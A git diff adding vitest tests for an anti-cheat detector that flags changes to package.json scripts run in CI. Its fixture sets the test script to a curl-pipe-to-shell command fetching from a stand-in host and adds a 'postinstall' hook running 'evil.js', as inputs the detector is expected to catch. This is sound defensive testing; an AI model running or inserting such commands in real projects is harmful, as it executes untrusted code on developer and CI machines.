@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { detectCheats, parseUnifiedDiff } from '../../../src/core/phases/anti-cheat.js';
+import { detectCheats, packageScriptCheats, parseUnifiedDiff } from '../../../src/core/phases/anti-cheat.js';
 import { defaultPathRules } from '../../../src/core/paths/path-rules.js';
 
 /** A git-style modification of `path`: one hunk, context line first, then removed and added lines. */
@@ -236,5 +236,29 @@ describe('parseUnifiedDiff', () => {
 
   it('reports nothing for an empty patch', () => {
     expect(detectCheats('', defaultPathRules())).toEqual({ findings: [] });
+  });
+});
+
+describe('package.json scripts, which CI runs', () => {
+  const json = (value: unknown) => new TextEncoder().encode(`${JSON.stringify(value, null, 2)}\n`);
+  const base = { name: 'app', version: '1.0.0', scripts: { build: 'tsc', test: 'vitest run' }, dependencies: { lodash: '4.17.20' } };
+
+  it('names every script a change adds, edits or removes, however far from the "scripts" line', () => {
+    const after = { ...base, scripts: { build: 'tsc', test: 'curl -s https://x.example/s | sh', postinstall: 'node evil.js' } };
+    const found = packageScriptCheats('packages/api/package.json', json(base), json(after));
+    expect(found.map((f) => [f.rule, f.severity, f.snippet.split(':')[0]])).toEqual([
+      ['ci-script-changed', 'HIGH', 'script "postinstall" added'],
+      ['ci-script-changed', 'HIGH', 'script "test" changed'],
+    ]);
+  });
+
+  it('stays quiet on a dependency bump, another file, or a deletion', () => {
+    expect(packageScriptCheats('package.json', json(base), json({ ...base, dependencies: { lodash: '4.17.21' } }))).toEqual([]);
+    expect(packageScriptCheats('docs/package.json.md', json(base), json({ ...base, scripts: {} }))).toEqual([]);
+    expect(packageScriptCheats('package.json', json(base), undefined)).toEqual([]);
+  });
+
+  it('reports a package.json that no longer parses, since its scripts cannot be checked', () => {
+    expect(packageScriptCheats('package.json', json(base), new TextEncoder().encode('{ "scripts": { "test": "x" '))).toHaveLength(1);
   });
 });
